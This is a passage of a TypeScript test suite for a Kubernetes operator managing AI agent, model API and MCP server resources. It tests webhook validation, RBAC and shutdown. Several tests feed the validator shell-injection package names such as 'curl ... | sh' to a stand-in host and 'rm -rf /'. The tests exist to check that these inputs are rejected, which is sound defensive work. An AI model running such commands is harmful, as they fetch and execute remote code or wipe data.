    invalid('MCPServer', 's2', ['spec.config.tools: Required value: must specify exactly one of fromPackage, fromString, fromSecretKeyRef']),
    'no source',
  );
});

t.test('denied: fromString or fromSecretKeyRef on node-runtime', async (t) => {
  const ns = 'deny-node-source';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'node-runtime', config: { tools: { fromString: 'def f():\n    pass\n' } } }),
    invalid('MCPServer', 's1', ['spec.config.tools.fromString: Forbidden: only supported when type is python-runtime']),
    'fromString on node',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's2', { type: 'node-runtime', config: { tools: { fromSecretKeyRef: { name: 'tools', key: 'tools.py' } } } }),
    invalid('MCPServer', 's2', ['spec.config.tools.fromSecretKeyRef: Forbidden: only supported when type is python-runtime']),
    'fromSecretKeyRef on node',
  );
});

t.test('denied: a package name with shell characters', async (t) => {
  const ns = 'deny-package';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch; rm -rf /' } } }),
    invalid('MCPServer', 's1', [
      "spec.config.tools.fromPackage: Invalid value: \"mcp-server-fetch; rm -rf /\": must be a PyPI package name with an optional version specifier and no spaces or shell characters (e.g. 'mcp-server-fetch' or 'mcp-server-fetch==1.2.0')",
    ]),
    'python',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's2', { type: 'node-runtime', config: { tools: { fromPackage: '$(curl -s evil.example | sh)' } } }),
    invalid('MCPServer', 's2', [
      "spec.config.tools.fromPackage: Invalid value: \"$(curl -s evil.example | sh)\": must be an npm package name with an optional version and no spaces or shell characters (e.g. '@modelcontextprotocol/server-everything' or 'my-tools@1.2.0')",
    ]),
    'node',
  );
});

t.test('denied: a podSpec override that makes the pod invalid (server-side dry run of the Deployment)', async (t) => {
  const ns = 'deny-podspec';
  await setup(t, ns, [hostedModel('llm')]);
  // The generated container already has port 8000, so the override's port is the merged pod's
  // second one; the error points at it where the user wrote it (ports[0]).
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', podSpec: { containers: [{ name: 'agent', ports: [{ containerPort: 70000 }] }] } }),
    invalid('Agent', 'a1', ['spec.podSpec.containers[0].ports[0].containerPort: Invalid value: 70000: must be between 1 and 65535, inclusive']),
    'a container port out of range',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', {
      type: 'python-runtime',
      config: { tools: { fromPackage: 'mcp-server-fetch' } },
      podSpec: {
        volumes: [{ name: 'Scratch_Space', emptyDir: {} }],
        containers: [{ name: 'mcp-server', volumeMounts: [{ name: 'cache', mountPath: '/cache' }] }],
      },
    }),
    invalid('MCPServer', 's1', [
      "spec.podSpec.volumes[0].name: Invalid value: \"Scratch_Space\": a lowercase RFC 1123 label must consist of lower case alphanumeric characters or '-', and must start and end with an alphanumeric character (e.g. 'my-name',  or '123-abc', regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?')",
      'spec.podSpec.containers[0].volumeMounts[0].name: Not found: "cache"',
    ]),
    'an invalid volume name and a mount of a volume that does not exist',
  );

  // A valid override is accepted as it is.
  const ok = agent('a2', {
    modelAPI: 'llm',
    podSpec: {
      nodeSelector: { 'kubernetes.io/arch': 'amd64' },
      volumes: [{ name: 'cache', emptyDir: {} }],
      containers: [{ name: 'agent', volumeMounts: [{ name: 'cache', mountPath: '/cache' }] }],
    },
  });
  t.strictSame(await apply(ns, [ok]), { code: 0, stdout: created([ok]), stderr: '' }, 'a valid override is accepted');

  // Without a podSpec, what the schema leaves opaque (valueFrom, container resources) is checked
  // the same way, and reported on spec with the generated pod's field.
  await expectDenied(
    t, ns,
    agent('a3', { modelAPI: 'llm', config: { env: [{ name: 'API_KEY', value: 'x', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] } }),
    invalid('Agent', 'a3', [
      "spec: Invalid value: the pod it generates is invalid: containers[0].env[1].valueFrom: Invalid value: \"\": may not be specified when `value` is not empty",
    ]),
    'an env entry with both value and valueFrom',
  );
});

t.test('denied: several errors of one object are reported at once', async (t) => {
  const ns = 'deny-several';
  await setup(t, ns, [hostedModel('llm')]);
  // The missing peer is still only a warning, printed with the denial.
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'gpt', mcpServers: ['search', 'search', 'Web_Tools'], agentNetwork: { access: ['a1', 'critic', 'critic'] } }),
    warnings('spec.agentNetwork.access[1]: Agent "critic" does not exist yet; it is wired in once it does') +
      'The Agent "a1" is invalid: \n' +
      '* spec.modelAPI: Not found: "gpt"\n' +
      '* spec.mcpServers[0]: Not found: "search"\n' +
      '* spec.mcpServers[1]: Duplicate value: "search"\n' +
      "* spec.mcpServers[2]: Invalid value: \"Web_Tools\": a lowercase RFC 1123 subdomain must consist of lower case alphanumeric characters, '-' or '.', and must start and end with an alphanumeric character (e.g. 'example.com', regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*')\n" +
      '* spec.agentNetwork.access[0]: Invalid value: "a1": an agent cannot list itself\n' +
      '* spec.agentNetwork.access[2]: Duplicate value: "critic"\n',
    'Agent',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'node-runtime', config: { tools: { fromPackage: 'echo; curl evil.sh | sh', fromString: 'def echo(x): return x' } } }),
    invalid('MCPServer', 's1', [
      'spec.config.tools.fromString: Forbidden: may not be set when fromPackage is set',
      'spec.config.tools.fromString: Forbidden: only supported when type is python-runtime',
      "spec.config.tools.fromPackage: Invalid value: \"echo; curl evil.sh | sh\": must be an npm package name with an optional version and no spaces or shell characters (e.g. '@modelcontextprotocol/server-everything' or 'my-tools@1.2.0')",
    ]),
    'MCPServer',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Proxy', proxyConfig: { apiBase: 'ftp://ollama:11434', configYaml: { fromString: '- model_name: gpt\n' } }, hostedConfig: { model: 'x' } }),
    invalid('ModelAPI', 'm1', [
      'spec.hostedConfig: Forbidden: may not be set when mode is Proxy',
      'spec.proxyConfig.apiBase: Invalid value: "ftp://ollama:11434": must be an http or https URL',
      'spec.proxyConfig.configYaml.fromString: Invalid value: must be a YAML mapping with a model_list list',
    ]),
    'ModelAPI',
  );
});

t.test('a file with several refused objects names each validating webhook; its valid objects are created', async (t) => {
  const ns = 'deny-file';
  await setup(t, ns);
  const good = hostedModel('llm');
  const objects = [
    good,
    agent('a1', { modelAPI: 'gpt', mcpServers: ['search'] }),
    kaos('ModelAPI', 'm1', { mode: 'Proxy' }),
    kaos('MCPServer', 's1', { type: 'node-runtime', config: { tools: { fromString: 'x = 1' } } }),
  ];
  const expected = {
    code: 1,
    stdout: created([good]),
    stderr: lines(
      'Error from server (Invalid): error when creating "STDIN": admission webhook "vagent.kaos.tools" denied the request: Agent.kaos.tools "a1" is invalid: [spec.modelAPI: Not found: "gpt", spec.mcpServers[0]: Not found: "search"]',
      'Error from server (Invalid): error when creating "STDIN": admission webhook "vmodelapi.kaos.tools" denied the request: ModelAPI.kaos.tools "m1" is invalid: spec.proxyConfig: Required value: required when mode is Proxy',
      'Error from server (Invalid): error when creating "STDIN": admission webhook "vmcpserver.kaos.tools" denied the request: MCPServer.kaos.tools "s1" is invalid: spec.config.tools.fromString: Forbidden: only supported when type is python-runtime',
    ),
  };
  t.strictSame(await apply(ns, objects, ['--dry-run=server']), { ...expected, stdout: created([good], ' (server dry run)') }, '--dry-run=server');
  t.strictSame(await apply(ns, objects), expected, 'for real');
  const stored = await kubectl(['get', 'agents,modelapis,mcpservers', '-n', ns, '-o', 'name']);
  t.strictSame(stored, { code: 0, stdout: 'modelapi.kaos.tools/llm\n', stderr: '' }, 'only the valid object is stored');
});

t.test('a denial is the 422 Invalid Status Kubernetes itself returns, with typed causes', async (t) => {
  const ns = 'deny-status';
  await setup(t, ns, [hostedModel('llm')]);
  if (stack === undefined) throw new Error('no local stack');
  const path = `/apis/kaos.tools/v1alpha1/namespaces/${ns}/agents`;
  const body = agent('a1', { modelAPI: 'gpt', agentNetwork: { access: ['a1'] }, podSpec: { containers: [{ name: 'agent', volumeMounts: [{ name: 'x', mountPath: '/x' }] }] } });
  for (const dryRun of [true, false]) {
    const err: unknown = await stack.client.create(path, body, { dryRun }).then(() => undefined, (e: unknown) => e);
    t.ok(err instanceof ApiError, `refused (dryRun ${dryRun})`);
    if (!(err instanceof ApiError)) continue;
    t.strictSame(
      { code: err.code, reason: err.reason, message: err.message, details: err.details },
      {
        code: 422,
        reason: 'Invalid',
        message:
          'admission webhook "vagent.kaos.tools" denied the request: Agent.kaos.tools "a1" is invalid: ' +
          '[spec.modelAPI: Not found: "gpt", spec.agentNetwork.access[0]: Invalid value: "a1": an agent cannot list itself, ' +
          'spec.podSpec.containers[0].volumeMounts[0].name: Not found: "x"]',
        details: {
          name: 'a1',
          group: 'kaos.tools',
          kind: 'Agent',
          // metav1.StatusCause's type travels as `reason`.
          causes: [
            { reason: 'FieldValueNotFound', message: 'Not found: "gpt"', field: 'spec.modelAPI' },
            { reason: 'FieldValueInvalid', message: 'Invalid value: "a1": an agent cannot list itself', field: 'spec.agentNetwork.access[0]' },
            { reason: 'FieldValueNotFound', message: 'Not found: "x"', field: 'spec.podSpec.containers[0].volumeMounts[0].name' },
          ],
        },
      },
      `the Status as the API server relays it (dryRun ${dryRun})`,
    );
  }
});

// ---- the CRD schema ---------------------------------------------------------------------------

t.test('a CRD schema error is refused by the API server itself (structural CRDs)', async (t) => {
  const ns = 'schema';
  await setup(t, ns, [hostedModel('llm')]);
  const tooMany = agent('a1', { modelAPI: 'llm', config: { reasoningLoopMaxSteps: 50 } });
  const message = 'spec.config.reasoningLoopMaxSteps: Invalid value: 50: spec.config.reasoningLoopMaxSteps in body should be less than or equal to 20';
  await expectDenied(t, ns, tooMany, invalid('Agent', 'a1', [message]), 'reasoningLoopMaxSteps 50');

  // With more than one failure kubectl prints each Status message: a webhook's is prefixed with
  // `admission webhook "..." denied the request:`; these are not, so the schema refused them
  // before any validating webhook was called. (One error per object: the API server's schema
  // validation lists several errors of one object in no fixed order.)
  const objects = [
    tooMany,
    agent('a2', { modelAPI: 'llm', config: { memory: { contextLimit: 0 } } }),
    kaos('MCPServer', 's1', { type: 'go-runtime', config: { tools: { fromPackage: 'x' } } }),
  ];
  t.strictSame(await apply(ns, objects), {
    code: 1,
    stdout: '',
    stderr: lines(
      `Error from server (Invalid): error when creating "STDIN": Agent.kaos.tools "a1" is invalid: ${message}`,
      'Error from server (Invalid): error when creating "STDIN": Agent.kaos.tools "a2" is invalid: spec.config.memory.contextLimit: Invalid value: 0: spec.config.memory.contextLimit in body should be greater than or equal to 1',
      'Error from server (Invalid): error when creating "STDIN": MCPServer.kaos.tools "s1" is invalid: spec.type: Unsupported value: "go-runtime": supported values: "node-runtime", "python-runtime"',
    ),
  });

  const conditions = await kubectl([
    'get', 'crd', 'agents.kaos.tools', 'modelapis.kaos.tools', 'mcpservers.kaos.tools', '-o',
    'jsonpath={range .items[*]}{.metadata.name}:{range .status.conditions[*]} {.type}={.status}{end}{"\\n"}{end}',
  ]);
  t.strictSame(
    conditions,
    {
      code: 0,
      stdout: lines(
        'agents.kaos.tools: NamesAccepted=True Established=True',
        'modelapis.kaos.tools: NamesAccepted=True Established=True',
        'mcpservers.kaos.tools: NamesAccepted=True Established=True',
      ),
      stderr: '',
    },
    'no NonStructuralSchema condition',
  );
});

// ---- reference policy -------------------------------------------------------------------------

t.test('reference policy Warn (namespace label) turns missing references into warnings', async (t) => {
  const ns = 'policy-warn';
  await setup(t, ns, [], { 'kaos.tools/reference-policy': 'Warn' });
  const early = agent('a1', { modelAPI: 'later', mcpServers: ['tools-later'], agentNetwork: { access: ['peer'] } });
  const expectedWarnings = warnings(
    'spec.modelAPI: Not found: "later" (allowed: reference policy Warn)',
    'spec.mcpServers[0]: Not found: "tools-later" (allowed: reference policy Warn)',
    'spec.agentNetwork.access[0]: Agent "peer" does not exist yet; it is wired in once it does',
  );
  t.strictSame(await apply(ns, [early], ['--dry-run=server']), { code: 0, stdout: created([early], ' (server dry run)'), stderr: expectedWarnings }, '--dry-run=server');
  t.strictSame(await apply(ns, [early]), { code: 0, stdout: created([early]), stderr: expectedWarnings }, 'created, with warnings');
  t.strictSame(
    (podSpecOf(await get(ns, 'Agent', 'a1')).config as Json).env,
    [{ name: 'MODEL_NAME', value: DEFAULT_MODEL }],
    'MODEL_NAME is DEFAULT_MODEL_NAME while the ModelAPI is unknown',
  );

  // The object's annotation is more specific than the namespace's label.
  await expectDenied(
    t, ns,
    agent('a2', { modelAPI: 'later' }, { annotations: { 'kaos.tools/reference-policy': 'Enforce' } }),
    invalid('Agent', 'a2', ['spec.modelAPI: Not found: "later"']),
    'annotation Enforce in a Warn namespace',
  );
});

t.test('reference policy: a per-object annotation overrides the namespace; bad values are reported', async (t) => {
  const ns = 'policy-annotation';
  await setup(t, ns);
  const warned = agent('a1', { modelAPI: 'later' }, { annotations: { 'kaos.tools/reference-policy': 'Warn' } });
  t.strictSame(
    await apply(ns, [warned]),
    { code: 0, stdout: created([warned]), stderr: warnings('spec.modelAPI: Not found: "later" (allowed: reference policy Warn)') },
    'annotation Warn in an Enforce namespace',
  );
  await expectDenied(
    t, ns,
    agent('a2', { modelAPI: 'later' }, { annotations: { 'kaos.tools/reference-policy': 'warn' } }),
    invalid('Agent', 'a2', [
      'metadata.annotations[kaos.tools/reference-policy]: Unsupported value: "warn": supported values: "Enforce", "Warn"',
      'spec.modelAPI: Not found: "later"',
    ]),
    'an annotation that is not a policy',
  );

  const badLabel = 'policy-bad-label';
  await setup(t, badLabel, [], { 'kaos.tools/reference-policy': 'Off' });
  await expectDenied(
    t, badLabel,
    agent('a1', { modelAPI: 'later' }),
    warnings('namespace label kaos.tools/reference-policy="Off" is not Enforce or Warn; using Enforce') +
      invalid('Agent', 'a1', ['spec.modelAPI: Not found: "later"']),
    'a namespace label that is not a policy is ignored, with a warning',
  );
});

// ---- deletion ---------------------------------------------------------------------------------

t.test('deleting a ModelAPI or MCPServer still in use warns, naming the Agents, and succeeds', async (t) => {
  const ns = 'deletion';
  await setup(t, ns, [
    hostedModel('llm'),
    hostedModel('spare'),
    pythonTools('tools'),
    agent('a1', { modelAPI: 'llm', mcpServers: ['tools'] }),
    agent('a2', { modelAPI: 'llm', mcpServers: ['tools'] }),
    agent('a3', { modelAPI: 'llm' }),
    agent('lead', { modelAPI: 'llm', agentNetwork: { access: ['a2'] } }),
  ]);
  const modelWarning = warnings('ModelAPI "llm" is still referenced by Agents: a1, a2, a3, lead');

  // The warning comes from the operator's cache: wait (bounded) until it has seen the Agents,
  // asking with a dry run, which is answered exactly like the real delete.
  const dryDelete = ['delete', 'modelapi', 'llm', '-n', ns, '--dry-run=server'];
  let dry = await kubectl(dryDelete);
  for (let i = 0; i < 100 && dry.code === 0 && dry.stderr !== modelWarning; i++) {
    await new Promise((r) => setTimeout(r, 200));
    dry = await kubectl(dryDelete);
  }
  t.strictSame(dry, { code: 0, stdout: `modelapi.kaos.tools "llm" deleted from ${ns} namespace (server dry run)\n`, stderr: modelWarning }, 'dry run');

  t.strictSame(
    await kubectl(['delete', 'modelapi', 'llm', '-n', ns]),
    { code: 0, stdout: `modelapi.kaos.tools "llm" deleted from ${ns} namespace\n`, stderr: modelWarning },
    'ModelAPI deleted, with a warning',
  );
  t.strictSame(
    await kubectl(['delete', 'mcpserver', 'tools', '-n', ns]),
    { code: 0, stdout: `mcpserver.kaos.tools "tools" deleted from ${ns} namespace\n`, stderr: warnings('MCPServer "tools" is still referenced by Agents: a1, a2') },
    'MCPServer deleted, with a warning',
  );
  t.strictSame(
    await kubectl(['delete', 'modelapi', 'spare', '-n', ns]),
    { code: 0, stdout: `modelapi.kaos.tools "spare" deleted from ${ns} namespace\n`, stderr: '' },
    'an unused ModelAPI is deleted without a warning',
  );
  t.equal(await get(ns, 'ModelAPI', 'llm'), undefined, 'gone');
  t.strictSame(
    await kubectl(['delete', 'agent', 'a3', '-n', ns]),
    { code: 0, stdout: `agent.kaos.tools "a3" deleted from ${ns} namespace\n`, stderr: '' },
    'an Agent no one lists as a peer is deleted without a warning',
  );

  // Only new or changed references are checked: the orphaned Agent can still be edited...
  t.strictSame(await kubectl(['label', 'agent', 'a1', '-n', ns, 'team=research']), { code: 0, stdout: 'agent.kaos.tools/a1 labeled\n', stderr: '' }, 'relabel an Agent whose ModelAPI is gone');
  // ...but not pointed at another missing ModelAPI.
  t.strictSame(
    await kubectl(['patch', 'agent', 'a1', '-n', ns, '--type=merge', '-p', JSON.stringify({ spec: { modelAPI: 'llm-2' } })]),
    { code: 1, stdout: '', stderr: invalid('Agent', 'a1', ['spec.modelAPI: Not found: "llm-2"']) },
    'a changed reference is checked',
  );
  t.strictSame(
    await kubectl(['delete', 'agent', 'a2', '-n', ns]),
    { code: 0, stdout: `agent.kaos.tools "a2" deleted from ${ns} namespace\n`, stderr: warnings('Agent "a2" is still listed as a peer by Agents: lead') },
    'deleting an Agent others list as a peer warns, naming them',
  );
});

// ---- printer columns --------------------------------------------------------------------------

t.test('kubectl get shows the printer columns', async (t) => {
  const ns = 'printers';
  await setup(t, ns, [
    hostedModel('llm'),
    kaos('ModelAPI', 'gateway', { mode: 'Proxy', proxyConfig: { apiBase: 'http://ollama:11434', model: 'ollama/llama3.2' } }),
    pythonTools('py-tools'),
    kaos('MCPServer', 'js-tools', { type: 'node-runtime', config: { tools: { fromPackage: '@modelcontextprotocol/server-everything' } } }),
    agent('researcher', { modelAPI: 'llm', mcpServers: ['py-tools'] }),
    agent('writer', { modelAPI: 'gateway' }),
  ]);
  // No controller runs here: write the status a reconcile would, so READY and PHASE show values.
  for (const [kind, name, status] of [
    ['agent', 'researcher', { ready: true, phase: 'Ready' }],
    ['modelapi', 'llm', { ready: false, phase: 'Pending' }],
    ['mcpserver', 'js-tools', { ready: false, phase: 'Failed' }],
  ] as const) {
    const res = await kubectl(['patch', kind, name, '-n', ns, '--subresource=status', '--type=merge', '-p', JSON.stringify({ status })]);
    t.strictSame(res, { code: 0, stdout: `${kind}.kaos.tools/${name} patched\n`, stderr: '' }, `status of ${kind} ${name}`);
  }

  /** The table with each row's AGE (the last column, so it pads nothing else) replaced by <age>. */
  const table = async (args: string[]): Promise<KubectlResult> => {
    const res = await kubectl(['get', ...args, '-n', ns]);
    const stdout = res.stdout
      .split('\n')
      .map((line) => (line === '' || line.startsWith('NAME ') ? line : line.replace(/ (\d+[smhdy])+$/, ' <age>')))
      .join('\n');
    return { ...res, stdout };
  };

  t.strictSame(await table(['agents,modelapis,mcpservers']), {
    code: 0,
    stdout: lines(
      'NAME                          MODELAPI   READY   PHASE   AGE',
      'agent.kaos.tools/researcher   llm        true    Ready   <age>',
      'agent.kaos.tools/writer       gateway                    <age>',
      '',
      'NAME                          MODE     READY   PHASE     AGE',
      'modelapi.kaos.tools/gateway   Proxy                      <age>',
      'modelapi.kaos.tools/llm       Hosted   false   Pending   <age>',
      '',
      'NAME                            TYPE             READY   PHASE    AGE',
      'mcpserver.kaos.tools/js-tools   node-runtime     false   Failed   <age>',
      'mcpserver.kaos.tools/py-tools   python-runtime                    <age>',
    ),
    stderr: '',
  }, 'kubectl get agents,modelapis,mcpservers');

  t.strictSame(await table(['api']), {
    code: 0,
    stdout: lines(
      'NAME      MODE     READY   PHASE     AGE',
      'gateway   Proxy                      <age>',
      'llm       Hosted   false   Pending   <age>',
    ),
    stderr: '',
  }, 'kubectl get api');
  t.strictSame(await table(['mcp']), {
    code: 0,
    stdout: lines(
      'NAME       TYPE             READY   PHASE    AGE',
      'js-tools   node-runtime     false   Failed   <age>',
      'py-tools   python-runtime                    <age>',
    ),
    stderr: '',
  }, 'kubectl get mcp');
  t.strictSame(await table(['agent']), {
    code: 0,
    stdout: lines(
      'NAME         MODELAPI   READY   PHASE   AGE',
      'researcher   llm        true    Ready   <age>',
      'writer       gateway                    <age>',
    ),
    stderr: '',
  }, 'kubectl get agent');
  // The other short names resolve to the same resources.
  for (const [short, resource] of [['agents', 'agent'], ['apis', 'modelapi'], ['mcps', 'mcpserver']] as const) {
    const res = await kubectl(['get', short, '-n', ns, '-o', 'name']);
    t.equal(res.code, 0, `kubectl get ${short}`);
    t.ok(res.stdout.split('\n').filter(Boolean).every((l) => l.startsWith(`${resource}.kaos.tools/`)), `${short} lists ${resource}s`);
  }
});

t.test('the operator runs as its ServiceAccount with the least privilege of src/kube/rbac.ts', async (t) => {
  if (stack === undefined) throw new Error('no local stack');
  const asOperator = (args: readonly string[]): Promise<KubectlResult> =>
    kubectl(['--kubeconfig', stack?.operatorKubeconfig ?? '', ...args]);
  const whoami = await asOperator(['auth', 'whoami', '-o', 'jsonpath={.status.userInfo.username}']);
  t.strictSame(whoami, { code: 0, stdout: 'system:serviceaccount:kaos-system:kaos-operator', stderr: '' }, 'every test above ran the operator as this identity');
  const can = async (verb: string, resource: string): Promise<string> => (await asOperator(['auth', 'can-i', verb, resource, '-A'])).stdout.trim();
  for (const resource of ['agents.kaos.tools', 'modelapis.kaos.tools', 'mcpservers.kaos.tools', 'namespaces']) {
    t.equal(await can('watch', resource), 'yes', `watch ${resource}`);
  }
  t.equal(await can('create', 'deployments.apps'), 'yes', 'dry-run create of Deployments (the podSpec check)');
  for (const verb of ['get', 'create', 'update']) t.equal(await can(verb, 'leases.coordination.k8s.io'), 'yes', `${verb} leases (leader election)`);
  for (const verb of ['create', 'patch']) t.equal(await can(verb, 'events.events.k8s.io'), 'yes', `${verb} events`);
  for (const [verb, resource] of [
    ['get', 'secrets'],
    ['list', 'configmaps'],
    ['create', 'agents.kaos.tools'],
    ['delete', 'modelapis.kaos.tools'],
    ['update', 'namespaces'],
    ['delete', 'deployments.apps'],
    ['delete', 'leases.coordination.k8s.io'],
    ['list', 'leases.coordination.k8s.io'],
    ['list', 'events.events.k8s.io'],
    ['create', 'events'],
    ['create', 'mutatingwebhookconfigurations.admissionregistration.k8s.io'],
  ] as const) {
    t.equal(await can(verb, resource), 'no', `no ${verb} ${resource}`);
  }
});

// Last: it stops the operator.
t.test('SIGTERM (a pod being stopped): /readyz fails at once, admission goes on for the delay, then a clean exit', async (t) => {
  if (stack === undefined) throw new Error('no local stack');
  const operator = stack.operator;
  const readyz = async (): Promise<number> => {
    try {
      return (await fetch(`http://127.0.0.1:${operator.metricsPort}/readyz`)).status;
    } catch {
      return 0;
    }
  };
  t.equal(await readyz(), 200, 'ready before');
  process.kill(operator.pid, 'SIGTERM');
  let status = await readyz();
  for (let i = 0; i < 50 && status === 200; i++) {
    await new Promise((r) => setTimeout(r, 50));
    status = await readyz();
  }
  t.equal(status, 503, 'unready as soon as the signal arrives');
  const ns = 'shutdown';
  await setup(t, ns);
  const dry = await kubectl(['create', '-n', ns, '--dry-run=server', '-o', 'jsonpath={.spec.container.image}', '-f', '-'], manifest([kaos('ModelAPI', 'm', { mode: 'Hosted', hostedConfig: { model: 'x' } })]));
  t.strictSame(dry, { code: 0, stdout: IMAGES.ollama, stderr: '' }, 'the webhooks still answer during the delay');
  t.equal(await operator.stop(), 0, 'then it exits 0');
});
